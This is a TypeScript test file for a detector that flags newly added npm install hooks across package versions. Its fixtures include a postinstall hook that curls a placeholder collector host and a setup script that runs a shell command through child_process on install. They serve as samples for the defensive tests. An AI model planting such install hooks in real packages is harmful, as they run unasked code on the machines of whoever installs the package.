import { testDetector } from "../../test/test-detector.ts";
import type { Sample } from "../../test/sample.ts";
import { newInstallHook } from "./index.ts";

const before: Sample = {
  "before/package.json": '{"name":"sample","version":"1.0.0","main":"index.js"}',
  "before/index.js": "module.exports = 1;\n",
};

function after(script: string, files: Sample): Sample {
  const manifest = { name: "sample", version: "1.0.1", main: "index.js", scripts: { postinstall: script } };
  return {
    ...before,
    "package.json": JSON.stringify(manifest),
    "index.js": "module.exports = 1;\n",
    ...files,
  };
}

testDetector(newInstallHook, {
  fires: {
    "a hook that downloads": ["strong", after("curl -s https://collector.invalid/x", {})],
    "a script that starts a process": [
      "strong",
      after("node setup.js", { "setup.js": 'require("child_process").exec("whoami");\n' }),
    ],
    "a message": ["supporting", after("node notice.js", { "notice.js": 'console.log("hello");\n' })],
    "a build description": [
      "supporting",
      {
        ...after("", {}),
        "package.json": '{"name":"sample","version":"1.0.1","main":"index.js"}',
        "binding.gyp": "{}",
      },
    ],
  },
  silent: {
    "a package that is new": {
      "package.json": '{"name":"sample","version":"1.0.1","scripts":{"postinstall":"node a.js"}}',
      "a.js": "1;\n",
    },
    "a script that no install runs": after("", {
      "package.json": '{"name":"sample","version":"1.0.1","scripts":{"test":"node t.js"}}',
    }),
  },
});
